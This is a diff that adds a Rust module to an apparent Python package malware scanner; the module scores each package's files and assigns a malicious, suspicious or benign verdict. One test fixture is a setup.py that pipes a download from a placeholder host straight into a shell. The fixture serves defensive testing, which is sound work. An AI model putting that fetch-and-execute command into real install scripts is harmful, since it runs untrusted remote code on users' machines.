@@ -1,0 +1,201 @@
+//! Turns one package's members into its report: which members are Python, their analyses,
+//! scores and reports, the declared metadata, and the package verdict.
+
+use rayon::prelude::*;
+use wheelhound_analysis::metadata::{metadata_priority, parse_metadata, Metadata};
+use wheelhound_analysis::{analyze_python, is_python_member, FileAnalysis};
+use wheelhound_input::Package;
+use wheelhound_report::{build_file_report, FileInput, FileReport, PackageError, PackageReport, Verdict};
+use wheelhound_scoring::{score_file, FileScores, MALICIOUS_THRESHOLD, SUSPICIOUS_THRESHOLD};
+
+use crate::ScanOptions;
+
+/// Analyses every Python member of `package` and builds its report.
+pub fn analyze_package(package: Package, options: &ScanOptions) -> PackageReport {
+    let metadata = read_metadata(&package);
+    let mut errors: Vec<PackageError> = package
+        .issues
+        .iter()
+        .map(|issue| PackageError {
+            path: issue.path.clone(),
+            kind: serde_json::to_value(issue.kind)
+                .ok()
+                .and_then(|v| v.as_str().map(str::to_owned))
+                .unwrap_or_else(|| "input".to_owned()),
+            message: issue.message.clone(),
+        })
+        .collect();
+
+    let analysed: Vec<(FileAnalysis, FileScores)> = package
+        .members
+        .par_iter()
+        .filter(|member| is_python_member(&member.path, &member.data))
+        .map(|member| {
+            let analysis = analyze_python(&member.path, &member.data, &options.analysis);
+            let scores = score_file(&analysis);
+            (analysis, scores)
+        })
+        .collect();
+
+    for (analysis, _) in &analysed {
+        for error in &analysis.errors {
+            errors.push(PackageError {
+                path: Some(analysis.path.clone()),
+                kind: "analysis".to_owned(),
+                message: error.clone(),
+            });
+        }
+    }
+
+    let mut files: Vec<FileReport> = analysed
+        .iter()
+        .filter(|(analysis, _)| options.all_files || !analysis.findings.is_empty())
+        .map(|(analysis, scores)| {
+            build_file_report(&FileInput {
+                analysis,
+                scores,
+                package_name: metadata.name.as_deref(),
+                package_summary: metadata.summary.as_deref(),
+            })
+        })
+        .collect();
+    files.sort_by(|a, b| {
+        b.malware
+            .total_cmp(&a.malware)
+            .then(b.security_risk.total_cmp(&a.security_risk))
+            .then(a.path.cmp(&b.path))
+    });
+
+    let malware = analysed.iter().map(|(_, s)| s.malware).fold(0.0, f64::max);
+    let security_risk = analysed.iter().map(|(_, s)| s.security_risk).fold(0.0, f64::max);
+    let obfuscated = analysed.iter().map(|(_, s)| s.obfuscated).fold(0.0, f64::max);
+    let verdict = if package.fatal {
+        Verdict::Error
+    } else if malware >= MALICIOUS_THRESHOLD {
+        Verdict::Malicious
+    } else if malware >= SUSPICIOUS_THRESHOLD {
+        Verdict::Suspicious
+    } else {
+        Verdict::Benign
+    };
+    let reasons = decisive_reasons(&analysed);
+    let confidence = package_confidence(verdict, &analysed, &errors);
+
+    PackageReport {
+        input: package.input,
+        name: metadata.name,
+        version: metadata.version,
+        summary: metadata.summary,
+        verdict,
+        malware,
+        security_risk,
+        obfuscated,
+        confidence,
+        reasons,
+        files_analysed: analysed.len(),
+        members: package.members.len(),
+        files,
+        package_evidence: Vec::new(),
+        errors,
+    }
+}
+
+/// The strongest malware contributions across files, worded for a person.
+fn decisive_reasons(analysed: &[(FileAnalysis, FileScores)]) -> Vec<String> {
+    let mut moves: Vec<_> = analysed
+        .iter()
+        .flat_map(|(_, scores)| scores.contributions.iter())
+        .filter(|c| c.score == "malware" && c.weight >= 0.25)
+        .collect();
+    moves.sort_by(|a, b| b.weight.total_cmp(&a.weight));
+    let mut reasons = Vec::new();
+    for contribution in moves {
+        let reason = format!("{} ({})", contribution.reason, contribution.location);
+        if !reasons.contains(&reason) {
+            reasons.push(reason);
+        }
+        if reasons.len() == 2 {
+            break;
+        }
+    }
+    reasons
+}
+
+fn package_confidence(verdict: Verdict, analysed: &[(FileAnalysis, FileScores)], errors: &[PackageError]) -> f64 {
+    match verdict {
+        Verdict::Error => 0.0,
+        Verdict::Benign => {
+            let penalty = if errors.is_empty() { 0.0 } else { 0.1 };
+            let base = if analysed.is_empty() { 0.6 } else { 0.9 };
+            wheelhound_scoring::round(base - penalty)
+        }
+        _ => analysed
+            .iter()
+            .max_by(|a, b| a.1.malware.total_cmp(&b.1.malware))
+            .map_or(0.5, |(_, s)| s.confidence),
+    }
+}
+
+/// Declared metadata from the best-placed metadata files, best first.
+fn read_metadata(package: &Package) -> Metadata {
+    let mut candidates: Vec<(u8, &wheelhound_input::Member)> = package
+        .members
+        .iter()
+        .filter_map(|m| metadata_priority(&m.path).map(|p| (p, m)))
+        .collect();
+    candidates.sort_by_key(|(priority, member)| (*priority, member.path.len()));
+    let mut metadata = Metadata::default();
+    for (_, member) in candidates {
+        metadata.merge(parse_metadata(&member.path, &member.data));
+        if metadata.name.is_some() && metadata.version.is_some() && metadata.summary.is_some() {
+            break;
+        }
+    }
+    metadata
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+    use super::*;
+    use wheelhound_input::{Member, Origin};
+
+    fn package(members: &[(&str, &str)]) -> Package {
+        Package {
+            input: "demo.tar.gz".to_owned(),
+            origin: Origin::Directory,
+            members: members
+                .iter()
+                .map(|(path, text)| Member { path: (*path).to_owned(), data: text.as_bytes().to_vec(), size: text.len() as u64 })
+                .collect(),
+            issues: Vec::new(),
+            fatal: false,
+        }
+    }
+
+    #[test]
+    fn malicious_setup_makes_the_package_malicious() {
+        let report = analyze_package(
+            package(&[
+                ("demo-1.0/PKG-INFO", "Name: demo\nVersion: 1.0\nSummary: A demo\n"),
+                ("demo-1.0/setup.py", "import os\nos.system('curl http://x.invalid/a | sh')\n"),
+                ("demo-1.0/demo/__init__.py", "x = 1\n"),
+            ]),
+            &ScanOptions::default(),
+        );
+        assert_eq!(report.verdict, Verdict::Malicious);
+        assert_eq!(report.name.as_deref(), Some("demo"));
+        assert_eq!(report.files_analysed, 2);
+        assert_eq!(report.files.len(), 1);
+        assert_eq!(report.files[0].path, "demo-1.0/setup.py");
+        assert!(!report.reasons.is_empty());
+    }
+
+    #[test]
+    fn all_files_lists_clean_files_too() {
+        let options = ScanOptions { all_files: true, ..ScanOptions::default() };
+        let report = analyze_package(package(&[("demo/m.py", "x = 1\n"), ("demo/README", "hi")]), &options);
+        assert_eq!(report.verdict, Verdict::Benign);
+        assert_eq!(report.files.len(), 1);
+    }
+}
